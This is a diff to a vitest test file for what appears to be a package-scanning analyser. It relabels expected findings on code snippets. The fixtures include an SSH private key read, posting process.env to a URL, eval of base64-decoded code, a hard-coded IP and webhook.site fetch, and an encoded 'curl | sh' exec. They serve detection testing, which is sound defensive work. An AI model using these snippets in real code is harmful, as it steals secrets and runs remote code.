@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
-import type { CapabilityId, SuspiciousKind } from "../../../src/evidence/index.js";
-import { analyze } from "../../support/code.js";
+import type { CapabilityId } from "../../../src/evidence/index.js";
+import { analyze, factKinds } from "../../support/code.js";
 
 interface Case {
   name: string;
@@ -9,7 +9,8 @@ interface Case {
   /** More files of the package, beside `path`. */
   files?: Record<string, string>;
   caps: CapabilityId[];
-  suspicious?: SuspiciousKind[];
+  /** The facts beside capabilities (see factKinds): flows, addresses, decoded data, obfuscation, execs. */
+  facts?: string[];
   env?: string[];
   /** Each tool and what its handler reaches; null when the handler must stay unlinked. */
   tools?: Record<string, CapabilityId[] | null>;
@@ -99,6 +100,7 @@ const CASES: Case[] = [
     name: "reads an SSH key",
     code: `const fs = require("fs"); const os = require("os"); fs.readFileSync(require("path").join(os.homedir(), ".ssh", "id_rsa"));`,
     caps: ["fs.read", "secrets.paths"],
+    facts: ["read:file"],
   },
   {
     name: "fs/promises writeFile",
@@ -138,13 +140,13 @@ const CASES: Case[] = [
     name: "hard-coded public IP",
     code: `fetch("http://45.133.1.1:8080/x");`,
     caps: ["net.outbound"],
-    suspicious: ["hardcoded-ip"],
+    facts: ["address:ip:sent"],
   },
   {
     name: "webhook host",
     code: `fetch("https://webhook.site/abc");`,
     caps: ["net.outbound"],
-    suspicious: ["unusual-host"],
+    facts: ["address:unusual-host:sent"],
   },
   // environment
   { name: "env by name", code: `const k = process.env.API_KEY;`, caps: ["env.read"], env: ["API_KEY"] },
@@ -167,7 +169,7 @@ const CASES: Case[] = [
     name: "env serialised and posted",
     code: `fetch(u, { method: "POST", body: JSON.stringify(process.env) });`,
     caps: ["env.read", "net.outbound"],
-    suspicious: ["env-exfiltration"],
+    facts: ["flow:environment->network"],
   },
   {
     name: "env spread into a child is not exfiltration",
@@ -187,27 +189,27 @@ const CASES: Case[] = [
     name: "eval of base64",
     code: `eval(Buffer.from("${b64('console.log("pwned")')}", "base64").toString());`,
     caps: ["code.dynamic"],
-    suspicious: ["decode-to-code"],
+    facts: ["flow:decoded->code"],
   },
   {
     name: "base64 URL",
     code: `const u = Buffer.from("${b64("http://45.133.1.1/a")}", "base64").toString();`,
     caps: [],
-    suspicious: ["decode-to-url"],
+    facts: ["decoded:url"],
   },
   {
     name: "long base64 literal of code",
     code: `const payload = "${b64('const cp = require("child_process"); cp.execSync("curl -s http://x | sh");'.repeat(2))}";`,
     caps: [],
-    suspicious: ["decode-to-code"],
+    facts: ["decoded:code"],
   },
-  { name: "char-code array", code: `const a = [${charCodes}];`, caps: [], suspicious: ["decode-to-code"] },
-  { name: "obfuscator identifiers", code: obfuscated, caps: [], suspicious: ["obfuscation"] },
+  { name: "char-code array", code: `const a = [${charCodes}];`, caps: [], facts: ["decoded:code"] },
+  { name: "obfuscator identifiers", code: obfuscated, caps: [], facts: ["obfuscation:identifiers"] },
   {
     name: "detached silent child",
     code: `const { spawn } = require("child_process"); spawn("node", ["m.js"], { detached: true, stdio: "ignore" }).unref();`,
     caps: ["process.exec"],
-    suspicious: ["detached-process"],
+    facts: ["exec", "exec:detached"],
   },
   {
     name: "ordinary child",
@@ -271,6 +273,7 @@ const CASES: Case[] = [
       server.tool("run", "Runs a command", { cmd: z.string() }, async ({ cmd }) => exec(cmd));
       server.tool("ping", "Pings", async () => ({ content: [] }));`,
     caps: ["process.exec"],
+    facts: ["flow:tool-input->shell"],
     tools: { run: ["process.exec"], ping: [] },
   },
   {
@@ -394,6 +397,7 @@ const CASES: Case[] = [
         }
       }`,
     caps: ["fs.read", "process.exec"],
+    facts: ["flow:tool-input->shell"],
     tools: { list: ["fs.read"], shell: ["process.exec"] },
   },
   {
@@ -439,7 +443,9 @@ describe("labelled snippets", () => {
   it.each(CASES)("$name", (c) => {
     const a = analyze({ [c.path ?? "index.js"]: c.code, ...c.files });
     expect(a.capabilities.map((u) => u.id).sort()).toEqual([...c.caps].sort());
-    expect([...new Set(a.suspicious.map((s) => s.kind))].sort()).toEqual([...(c.suspicious ?? [])].sort());
+    // Exec sites are listed for every call that runs a program: compared only where a case names them.
+    const execs = (c.facts ?? []).some((f) => f.startsWith("exec"));
+    expect(factKinds(a).filter((k) => execs || !k.startsWith("exec"))).toEqual([...(c.facts ?? [])].sort());
     if (c.env) expect(a.env.map((e) => e.name).sort()).toEqual([...c.env].sort());
     if (c.tools) {
       const got = Object.fromEntries(
@@ -522,7 +528,9 @@ describe("hostile layout", () => {
   // The token scan's import pattern once rescanned every run of blank lines from each line
   // start: 1 MB of newlines and one syntax error took about half an hour. Linear, it is milliseconds.
   it("a file of a million blank lines and a syntax error is token-scanned in one pass", () => {
-    const a = analyze({ "index.js": `${"\n".repeat(1_000_000)}const x = ;\nrequire("child_process").exec("x");` });
+    const a = analyze({
+      "index.js": `${"\n".repeat(1_000_000)}const x = ;\nrequire("child_process").exec("x");`,
+    });
     expect(a.coverage.tokenScanned.map((t) => t.path)).toEqual(["index.js"]);
     expect(a.capabilities.map((c) => c.id)).toContain("process.exec");
   });
